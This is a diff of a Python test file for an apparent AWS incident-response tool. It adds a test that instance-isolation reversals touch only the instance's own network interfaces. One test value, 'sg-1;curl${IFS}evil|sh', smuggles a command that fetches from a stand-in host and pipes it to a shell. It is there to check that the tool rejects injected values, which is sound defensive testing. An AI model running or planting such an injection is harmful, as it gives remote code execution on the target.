@@ -147,7 +147,7 @@ def respond(acct: Account, staged: Staged) -> list[dict[str, Any]]:
         protect_instance(acct.ec2, staged.guarded_instance, REGION),
         protect_from_autoscaling(acct.autoscaling, staged.asg_instance, REGION),
         create_evidence_image(acct.ec2, {"instance_id": staged.instance, "incident_id": INCIDENT_ID, "region": REGION}),
-        isolate_instance(acct.ec2, staged.instance, REGION),
+        isolate_instance(acct.ec2, staged.instance, REGION, incident_id=INCIDENT_ID),
     ]
     assert [s["status"] for s in steps] == ["done"] * len(steps), steps
     incident = {
@@ -343,3 +343,40 @@ def test_the_command_asks_before_each_reversal(
     out = capsys.readouterr().out
     assert out.count("[declined]") == 8 and out.count("[released]") == 1
     assert cli.main(["release", "no-such-incident", "--region", REGION, "--yes"]) == 2
+
+
+class FakeEc2:
+    """Only what the restore reversal reads and writes; records every change."""
+
+    def __init__(self, attached: list[str]) -> None:
+        self.attached, self.changes = attached, []
+
+    def describe_instances(self, InstanceIds: list[str]) -> dict[str, Any]:
+        interfaces = [{"NetworkInterfaceId": eni} for eni in self.attached]
+        return {"Reservations": [{"Instances": [{"InstanceId": InstanceIds[0], "NetworkInterfaces": interfaces}]}]}
+
+    def modify_network_interface_attribute(self, **kwargs: Any) -> None:
+        self.changes.append(kwargs)
+
+
+def test_release_applies_only_what_its_prompt_shows_and_only_to_the_instances_own_interfaces() -> None:
+    from responder.release import ReleaseError, plan
+
+    own, foreign = "eni-0000000000000000a", "eni-0000000000000000b"
+    step = {
+        "name": "isolate-instance",
+        "status": "done",
+        "target": "i-0000000000000000a",
+        "undo": "ignored",
+        "data": {"original_groups": {own: ["sg-0000000000000000a"], foreign: ["sg-0000000000000000b"]}},
+    }
+    ec2 = FakeEc2(attached=[own])
+    (reversal,), _ = plan([step], iam=None, ec2=ec2)
+    assert f"{own} -> sg-0000000000000000a" in reversal.what and f"{foreign} -> sg-0000000000000000b" in reversal.what
+    with pytest.raises(ReleaseError, match="not attached"):
+        reversal.run()
+    assert ec2.changes == []  # nothing changed: not even the instance's own interface
+    # A group value that is not a group id is never applied, and the prompt says it is left out.
+    step["data"]["original_groups"] = {own: ["sg-1;curl${IFS}evil|sh"]}
+    (reversal,), _ = plan([step], iam=None, ec2=ec2)
+    assert "curl" not in reversal.what and "left as they are" in reversal.what
